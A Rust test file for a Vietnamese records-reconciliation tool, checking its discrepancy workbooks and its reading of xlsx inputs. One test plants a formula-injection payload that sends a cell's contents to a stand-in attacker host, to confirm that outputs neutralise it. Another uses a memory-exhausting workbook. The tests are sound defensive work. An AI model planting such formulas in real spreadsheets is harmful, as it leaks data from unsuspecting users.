//! Spreadsheets: `discrepancies.xlsx` read back with calamine (sheets, headers, row
//! counts, no live formula), and `.xlsx` inputs as agencies send them.

use crate::{code, stderr, Work};
use calamine::{open_workbook_auto, Data, Reader};
use doisoat::config::Field;
use std::collections::BTreeMap;
use std::path::Path;

const HEADERS: [&str; 15] = [
    "Mã hồ sơ",
    "Dòng",
    "Mã xã",
    "Tên xã/phường",
    "Trường",
    "Giá trị trong hồ sơ",
    "Giá trị trong CSDL dân cư",
    "Đề xuất sửa",
    "Số định danh",
    "Tầng liên kết",
    "Điểm liên kết",
    "Ghi chú",
    "Mới",
    "Mã sai lệch",
    "Tệp nguồn",
];

/// (code, record_id) of every row of an agency folder's complete list, counted.
fn csv_rows(agency_dir: &Path) -> BTreeMap<(String, String), usize> {
    rows_where(agency_dir, |_| true)
}

/// (code, record_id) of the rows of an agency folder's complete list whose `action` is
/// accepted, counted.
fn rows_where(agency_dir: &Path, keep: impl Fn(&str) -> bool) -> BTreeMap<(String, String), usize> {
    let text = crate::discrepancies_csv(agency_dir);
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let h = r.headers().unwrap().clone();
    let col = |n: &str| h.iter().position(|x| x.trim_start_matches('\u{feff}') == n).unwrap();
    let (c, id, action) = (col("code"), col("record_id"), col("action"));
    let mut out = BTreeMap::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        if keep(&rec[action]) {
            *out.entry((rec[c].to_string(), rec[id].to_string())).or_default() += 1;
        }
    }
    out
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

/// Every cell of every sheet of a workbook, comma-separated, one line per row.
pub fn all_text(path: &Path) -> String {
    let mut book = open_workbook_auto(path).unwrap();
    let mut out = String::new();
    for name in book.sheet_names() {
        for row in book.worksheet_range(&name).unwrap().rows() {
            out.push(',');
            out.push_str(&row.iter().map(text).collect::<Vec<_>>().join(","));
            out.push_str(",\n");
        }
    }
    out
}

/// The worklist (SPEC §7): the workbook holds exactly the rows a person must decide —
/// errors' sheets before warnings' — and the summary counts them and the fixes.
#[test]
fn discrepancies_xlsx_is_the_worklist_with_a_summary_and_a_sheet_per_code() {
    let work = Work::new();
    assert_eq!(code(&work.run_demo("demo", "r1")), 0);
    let run = work.path().join("demo/runs/r1");
    let (mut scored, mut fixed) = (0, 0);
    for agency in ["civil_status", "insurance", "land", "education"] {
        let csv = rows_where(&run.join(agency), |a| a == "work");
        let fixes = std::fs::read_to_string(run.join(agency).join("fixes.csv")).unwrap().lines().count() - 1;
        assert_eq!(fixes > 0, !rows_where(&run.join(agency), |a| a == "fix").is_empty(), "{agency}");
        fixed += fixes;
        let mut book = open_workbook_auto(run.join(agency).join("discrepancies.xlsx")).unwrap();
        let sheets = book.sheet_names();
        assert_eq!(sheets[0], "Tổng hợp", "{agency}");
        let summary = book.worksheet_range("Tổng hợp").unwrap();
        assert_eq!(text(&summary[(0, 0)]), "Mã xã");
        assert_eq!(text(&summary[(0, 5)]), "Đúng");
        assert!(text(&summary[(1, 1)]).starts_with("Toàn bộ"), "{agency}: {:?}", summary[(1, 1)]);
        let total_rows: usize = csv.values().sum();
        assert_eq!(summary[(1, 3)], Data::Float(total_rows as f64), "{agency}: the worklist in the summary");
        assert_eq!(summary[(1, 4)], Data::Float(fixes as f64), "{agency}: the fixes in the summary");

        let mut from_xlsx: BTreeMap<(String, String), usize> = BTreeMap::new();
        for name in &sheets[1..] {
            let range = book.worksheet_range(name).unwrap();
            let header: Vec<String> = range.rows().next().unwrap().iter().map(text).collect();
            assert_eq!(header, HEADERS, "{agency}/{name}");
            for row in range.rows().skip(1) {
                *from_xlsx.entry((name.clone(), text(&row[0]))).or_default() += 1;
                // A score only on tier-3 links (an ID link's is always 1).
                let tier3 = row[9] == Data::Float(3.0);
                assert_eq!(row[10] != Data::Empty, tier3, "{agency}/{name}: tier {:?}, score {:?}", row[9], row[10]);
                scored += usize::from(tier3);
            }
        }
        assert_eq!(from_xlsx, csv, "{agency}: the workbook's rows are the worklist's rows");
        assert!(sheets.len() >= 3, "{agency}: {sheets:?}");
        // Sheets are filled on threads, but they come in the summary's code order: errors
        // first, then warnings.
        let codes_at = summary.rows().position(|r| text(&r[0]) == "Cần xử lý: mã lỗi (trang)").expect("code table");
        let listed: Vec<String> =
            summary.rows().skip(codes_at + 1).map(|r| text(&r[0])).take_while(|c| !c.is_empty()).collect();
        assert_eq!(listed, sheets[1..], "{agency}: sheet order");
        let severities: Vec<String> =
            summary.rows().skip(codes_at + 1).take(listed.len()).map(|r| text(&r[4])).collect();
        let first_warning = severities.iter().position(|s| s == "cảnh báo").unwrap_or(severities.len());
        assert!(severities[first_warning..].iter().all(|s| s == "cảnh báo"), "{agency}: {severities:?}");
        // Each commune's workbook is its part of the worklist.
        let mut split: BTreeMap<(String, String), usize> = BTreeMap::new();
        for e in std::fs::read_dir(run.join(agency).join("by-commune")).unwrap().flatten() {
            assert_eq!(e.path().extension().unwrap(), "xlsx", "{agency}: {e:?}");
            let commune = e.path().file_stem().unwrap().to_string_lossy().to_string();
            let mut book = open_workbook_auto(e.path()).unwrap();
            for name in &book.sheet_names()[1..] {
                for row in book.worksheet_range(name).unwrap().rows().skip(1) {
                    assert_eq!(text(&row[2]), commune, "{agency}/{name} in {commune}.xlsx");
                    *split.entry((name.clone(), text(&row[0]))).or_default() += 1;
                }
            }
        }
        assert_eq!(split, from_xlsx, "{agency}: the commune workbooks split the worklist");
    }
    assert!(scored > 0, "no tier-3 row in the demo's workbooks");
    assert!(fixed > 0, "no fix in the demo");
}

#[test]
fn a_hostile_registry_value_is_inert_text_in_csv_and_xlsx() {
    let work = Work::new();
    let job = work.demo_job("demo");
    let bhxh = work.path().join("demo/bhxh.csv");
    let text_in = std::fs::read_to_string(&bhxh).unwrap();
    // Record 1201000001 (Giàng A Páo, linked by ID): its name becomes a formula, so the
    // name comparison writes it into the lists.
    let hostile = "=HYPERLINK(\"http://evil.example/\"&A1,\"Bấm\")";
    let quoted = format!("\"{}\"", hostile.replace('"', "\"\""));
    let mut patched = text_in.replacen("1201000001,Giàng A Páo", &format!("1201000001,{quoted}"), 1);
    // And a short row with a formula for its record ID, which rejected.csv names.
    patched.push_str(&format!("{quoted},x\r\n"));
    assert_ne!(patched, text_in);
    std::fs::write(&bhxh, patched).unwrap();
    assert_eq!(code(&work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r1"])), 0);
    let dir = work.path().join("demo/runs/r1/insurance");

    let csv = std::fs::read_to_string(dir.join("rejected.csv")).unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "the CSV cell is not neutralized: {csv}");
    assert!(!csv.contains(",\"=HYPERLINK(") && !csv.contains(",=HYPERLINK("), "a live formula in the CSV");

    let path = dir.join("discrepancies.xlsx");
    let mut book = open_workbook_auto(&path).unwrap();
    let mut seen = 0;
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name} holds a formula");
        let range = book.worksheet_range(&name).unwrap();
        seen += range.used_cells().filter(|(_, _, v)| **v == Data::String(hostile.to_string())).count();
    }
    assert!(seen >= 1, "the hostile value is not in the workbook as text");
}

/// The insurance list sent as a workbook: a cover sheet first, a title merged above the
/// table, blank rows, an address merged down over two rows, dates typed as dates. It
/// must give the same results as the CSV.
#[test]
fn an_xlsx_input_with_cover_sheet_merged_cells_and_blank_rows_reads_like_its_csv() {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    let work = Work::new();
    let job = work.demo_job("csv");
    assert_eq!(code(&work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"])), 0);

    let job = work.demo_job("xlsx");
    let dir = work.path().join("xlsx");
    let mut r = csv::ReaderBuilder::new().flexible(true).from_path(dir.join("bhxh.csv")).unwrap();
    let headers: Vec<String> =
        r.headers().unwrap().iter().map(|h| h.trim_start_matches('\u{feff}').to_string()).collect();
    // The CSV's short row (a rejected row there) has no equivalent in a workbook: left out.
    let (rows, short): (Vec<Vec<String>>, Vec<Vec<String>>) = r
        .records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect::<Vec<String>>())
        .partition(|r| r.len() == headers.len());
    assert_eq!(short.len(), 1);
    assert_eq!(rows[0][5], rows[1][5], "the first two rows share an address (merged below)");
    let dob = headers.iter().position(|h| h == "Ngày sinh").unwrap();

    let mut book = Workbook::new();
    book.add_worksheet().set_name("Ghi chú").unwrap().write_string(0, 0, "Danh sách gửi Công an tỉnh").unwrap();
    let sheet = book.add_worksheet().set_name("Danh sách").unwrap();
    sheet.merge_range(0, 0, 0, 7, "DANH SÁCH NGƯỜI THAM GIA BHXH", &Format::new().set_bold()).unwrap();
    for (c, h) in headers.iter().enumerate() {
        sheet.write_string(2, c as u16, h).unwrap();
    }
    let date = Format::new().set_num_format("dd/mm/yyyy");
    let mut row = 3u32;
    for (i, rec) in rows.iter().enumerate() {
        if i == 4 {
            row += 1; // a blank row between blocks
        }
        for (c, v) in rec.iter().enumerate() {
            let parts: Vec<u32> = v.split('/').filter_map(|p| p.parse().ok()).collect();
            let real_date = (parts.len() == 3 && parts[2] > 1900)
                .then(|| ExcelDateTime::from_ymd(parts[2] as u16, parts[1] as u8, parts[0] as u8).ok())
                .flatten();
            if let (true, Some(d)) = (c == dob, real_date) {
                // Dates typed as dates; an impossible one (31/02) stays text, as Excel keeps it.
                sheet.write_datetime_with_format(row, c as u16, &d, &date).unwrap();
            } else if c == 5 && i == 1 {
                // merged from the row above
            } else if c == 5 && i == 0 {
                sheet.merge_range(row, 5, row + 1, 5, v, &Format::new()).unwrap();
            } else if !v.is_empty() {
                sheet.write_string(row, c as u16, v).unwrap();
            }
        }
        row += 1;
    }
    book.save(dir.join("bhxh.xlsx")).unwrap();
    // Row by row, the workbook reads as the CSV: the merged address fills both rows,
    // dates come back as dates, line numbers are the sheet's.
    let mut problems = Vec::new();
    let rules = doisoat::config::load_rules(&dir.join("rules/insurance.toml"), &mut problems).unwrap();
    let from_csv = doisoat::ingest::read(&dir.join("bhxh.csv"), &rules).unwrap();
    let from_xlsx = doisoat::ingest::read(&dir.join("bhxh.xlsx"), &rules).unwrap();
    assert_eq!(from_xlsx.rows.len(), from_csv.rows.len());
    assert_eq!(from_xlsx.rows[0].line, 4, "the first data row is sheet row 4");
    let fields = [Field::RecordId, Field::FullName, Field::Address, Field::Id, Field::Status];
    for (x, c) in from_xlsx.rows.iter().zip(&from_csv.rows) {
        for f in fields {
            assert_eq!(x.get(&from_xlsx.layout, f), c.get(&from_csv.layout, f), "{f:?} of line {}", x.line);
        }
        let (dx, dc) = (x.get(&from_xlsx.layout, Field::Dob), c.get(&from_csv.layout, Field::Dob));
        let iso = dc.split('/').rev().collect::<Vec<_>>().join("-");
        assert!(dx == dc || dx == iso, "date {dx} for {dc}");
    }

    let job_text = std::fs::read_to_string(&job).unwrap().replace("file = \"bhxh.csv\"", "file = \"bhxh.xlsx\"");
    std::fs::write(&job, job_text).unwrap();
    let out = work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));

    let mut a = csv_rows(&work.path().join("csv/runs/r/insurance"));
    a.retain(|(_, id), _| *id != short[0][0]);
    let b = csv_rows(&work.path().join("xlsx/runs/r/insurance"));
    assert_eq!(a, b, "the workbook gives other discrepancies than the CSV");
    let m = crate::manifest(&work.path().join("xlsx/runs/r"));
    let input =
        m["inputs"].as_array().unwrap().iter().find(|i| i["path"].as_str().unwrap().ends_with("bhxh.xlsx")).unwrap();
    assert_eq!(input["rows"].as_u64().unwrap(), rows.len() as u64, "blank rows are not records");
}

#[test]
fn an_xlsx_input_without_the_mapped_columns_names_the_file_and_column() {
    let work = Work::new();
    let job = work.demo_job("demo");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    sheet.write_string(0, 0, "Mã số BHXH").unwrap();
    sheet.write_string(1, 0, "1201000001").unwrap();
    book.save(work.path().join("demo/bhxh.xlsx")).unwrap();
    let job_text = std::fs::read_to_string(&job).unwrap().replace("file = \"bhxh.csv\"", "file = \"bhxh.xlsx\"");
    std::fs::write(&job, job_text).unwrap();
    let out = work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("bhxh.xlsx") && err.contains("Họ và tên"), "{err}");
}

/// What a clerk reads in the worklist is Vietnamese, with one date form: no field key,
/// no English note or rejection reason, no ISO date in the population's value or the
/// suggestion (a `dd/mm/yyyy` beside a `yyyy-mm-dd` hides a day–month swap).
#[test]
fn the_worklist_reads_in_vietnamese_with_one_date_form() {
    let work = Work::new();
    assert_eq!(code(&work.run_demo("demo", "r1")), 0);
    let iso = |s: &str| s.len() == 10 && s.as_bytes()[4] == b'-' && s.as_bytes()[7] == b'-';
    let english = ["found by", "registry precision", "does not exist", " is not ", "expected ", "the ", "digit"];
    let (mut notes, mut dates) = (0, 0);
    for agency in ["civil_status", "insurance", "land", "education"] {
        let mut book =
            open_workbook_auto(work.path().join("demo/runs/r1").join(agency).join("discrepancies.xlsx")).unwrap();
        for name in &book.sheet_names()[1..] {
            for row in book.worksheet_range(name).unwrap().rows().skip(1) {
                let field = text(&row[4]);
                assert!(!field.contains('_') && !field.is_empty(), "{agency}/{name}: field {field}");
                for c in [6, 7] {
                    let v = text(&row[c]);
                    assert!(!iso(&v), "{agency}/{name}: {v}");
                    dates += usize::from(v.len() == 10 && v.as_bytes()[2] == b'/');
                }
                let note = text(&row[11]);
                assert!(!english.iter().any(|e| note.contains(e)), "{agency}/{name}: note {note:?}");
                notes += usize::from(!note.is_empty());
            }
        }
    }
    assert!(notes > 0 && dates > 0, "{notes} notes, {dates} dates");
}

/// Points the demo job's insurance at `bhxh.xlsx`.
fn use_xlsx(job: &Path) {
    let text = std::fs::read_to_string(job).unwrap().replace("file = \"bhxh.csv\"", "file = \"bhxh.xlsx\"");
    std::fs::write(job, text).unwrap();
}

/// Hostile (#20, item 10): the export continues on a second sheet under the same header
/// (Excel's sheet was full, or a clerk split it). Every sheet whose header holds the
/// mapped columns is read (was: the first only, the rest ignored with exit 0).
#[test]
fn a_workbook_whose_data_continues_on_a_second_sheet_is_read_whole() {
    let work = Work::new();
    let job = work.demo_job("demo");
    let dir = work.path().join("demo");
    let (headers, rows) = crate::insurance_export(&dir);
    let mut book = rust_xlsxwriter::Workbook::new();
    let (first, second) = rows.split_at(rows.len() / 2);
    for (name, part) in [("Trang 1", first), ("Trang 2", second)] {
        crate::write_sheet(book.add_worksheet().set_name(name).unwrap(), &headers, part);
    }
    book.save(dir.join("bhxh.xlsx")).unwrap();
    use_xlsx(&job);
    let out = work.run(&["run", "--job", job.to_str().unwrap(), "--run-id", "r"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let m = crate::manifest(&dir.join("runs/r"));
    let input =
        m["inputs"].as_array().unwrap().iter().find(|i| i["path"].as_str().unwrap().ends_with("bhxh.xlsx")).unwrap();
    assert_eq!(input["rows"].as_u64().unwrap(), rows.len() as u64, "both sheets' rows are records");
}

/// Hostile (#20, item 6): one cell at `XFD1048576`, the last of a sheet. The sheet is read
/// cell by cell, so memory follows the cells, not the sheet's extent (it asked for 512 GiB
/// and was OOM-killed). Run under a 3 GiB address-space limit: it must finish, and the
/// far cell is one more row (rejected: no record ID).
#[test]
fn a_workbook_with_a_cell_at_the_last_row_and_column_is_read_within_memory() {
    let work = Work::new();
    let job = work.demo_job("demo");
    let dir = work.path().join("demo");
    let (headers, rows) = crate::insurance_export(&dir);
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    crate::write_sheet(sheet, &headers, &rows);
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    book.save(dir.join("bhxh.xlsx")).unwrap();
    use_xlsx(&job);
    let bin = env!("CARGO_BIN_EXE_doisoat");
    let script = format!("ulimit -v 3145728; exec {bin} run --job {} --run-id r", job.display());
    let out = std::process::Command::new("sh").args(["-c", &script]).current_dir(work.path()).output().unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let rejected = std::fs::read_to_string(dir.join("runs/r/insurance/rejected.csv")).unwrap();
    assert!(rejected.contains("1048576,"), "the far cell's row is a rejected row: {rejected}");
}
